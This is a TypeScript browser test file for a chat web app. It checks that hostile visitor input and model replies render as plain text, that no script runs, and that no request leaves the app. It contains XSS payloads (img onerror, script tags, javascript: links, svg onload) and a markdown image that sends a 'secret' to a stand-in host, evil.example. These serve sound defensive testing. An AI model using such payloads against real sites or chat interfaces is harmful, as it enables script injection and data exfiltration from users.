/**
 * Hostile text in the chat renders as text: from the visitor (echoed back by the offline model) and in a
 * scripted model reply. Nothing runs (no dialog), no element is injected, and nothing is fetched from
 * anywhere but the app itself (every other request is intercepted and counted).
 */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { scriptReply } from "./accounts.ts";
import { launch, onFailureShot, openPage, type Watched } from "./browser.ts";

const base = inject("baseUrl");
const DEMO_ID = "00000000-0000-4000-8000-000000000001";
const HOSTILE = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(2)</script>",
  "[click](javascript:alert(3))",
  "![leak](https://evil.example/leak.png?c=secret)",
  '<a href="javascript:alert(4)">x</a>',
];

let browser: Browser;
let w: Watched;
const outside: string[] = [];

beforeAll(async () => {
  browser = await launch();
  w = await openPage(browser);
  await w.context.route("**/*", (route) => {
    const url = route.request().url();
    if (new URL(url).origin === base) return route.continue();
    outside.push(url);
    return route.abort();
  });
});
afterAll(async () => {
  await browser?.close();
});

const lastAnswer = (page: Page) => page.locator(".msg-assistant:not(.msg-greeting)").last();

async function send(page: Page, text: string): Promise<string> {
  await page.fill("textarea[name=message]", text);
  await page.keyboard.press("Enter");
  await expect.poll(() => lastAnswer(page).getAttribute("data-state"), { timeout: 30_000 }).toBe("done");
  return (await lastAnswer(page).locator(".msg-body").textContent()) ?? "";
}

async function assertInert(page: Page): Promise<void> {
  const log = page.locator(".conv-log");
  expect(await log.locator("script").count()).toBe(0);
  expect(await log.locator("img").count()).toBe(
    await log.locator(`img[src^="${base}/api/v1/public/images/"]`).count(),
  );
  expect(await log.locator('a[href^="javascript:"], [onerror], [onclick]').count()).toBe(0);
  for (const a of await log.locator("a").all()) {
    expect(await a.getAttribute("href")).toMatch(/^https?:\/\//);
    expect(await a.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(await a.getAttribute("target")).toBe("_blank");
  }
  expect(w.dialogs).toEqual([]);
  expect(outside).toEqual([]);
  expect(w.requests.filter((u) => /\/x$|evil\.example/.test(u))).toEqual([]);
}

describe("hostile strings render as text", () => {
  it("from the visitor and in the model's echo of it", async () => {
    const { page } = w;
    await onFailureShot(page, "xss-visitor", async () => {
      await page.goto(`${base}/demo/chat`);
      await page.locator("textarea[name=message]").waitFor();
      const message = HOSTILE.join(" ");
      const answer = await send(page, message);
      const user = (await page.locator(".msg-user").last().locator(".msg-body").textContent()) ?? "";
      expect(user).toBe(message);
      for (const s of HOSTILE) expect(answer).toContain(s);
      await assertInert(page);
    });
  });

  it("in a scripted model reply, while safe markdown still works", async () => {
    const { page } = w;
    await onFailureShot(page, "xss-model", async () => {
      const image = `/api/v1/public/images/${DEMO_ID}/00000000-0000-4000-8000-00000000abcd`;
      await scriptReply("xss-reply", {
        reply: [
          "**Bold** and *italic* with `code`:",
          ...HOSTILE.map((s) => `- ${s}`),
          `[docs](https://example.com/docs) and ![gallery](${image})`,
          "<iframe src=//evil.example/x></iframe> <svg onload=alert(5)>",
        ].join("\n"),
        chunkSize: 7,
        delayMs: 5,
      });
      const answer = await send(page, "[[script:xss-reply]] show me");
      for (const s of HOSTILE) expect(answer).toContain(s);
      expect(answer).toContain("<iframe src=//evil.example/x></iframe>");
      const reply = lastAnswer(page);
      expect(await reply.locator("strong").first().textContent()).toBe("Bold");
      expect(await reply.locator("li").count()).toBe(HOSTILE.length);
      expect(await reply.locator("a").count()).toBe(1);
      expect(await reply.locator("a").getAttribute("href")).toBe("https://example.com/docs");
      expect(await reply.locator("img").getAttribute("src")).toBe(`${base}${image}`);
      // The answer's own rating thumbs are the app's SVG icons; nothing from the reply may add one.
      const injected = await reply.evaluate(
        (el) => [...el.querySelectorAll("iframe, svg")].filter((n) => !n.closest(".msg-feedback")).length,
      );
      expect(injected).toBe(0);
      expect(await reply.locator(".msg-feedback svg.thumb").count()).toBe(2);
      await assertInert(page);
    });
  });
});
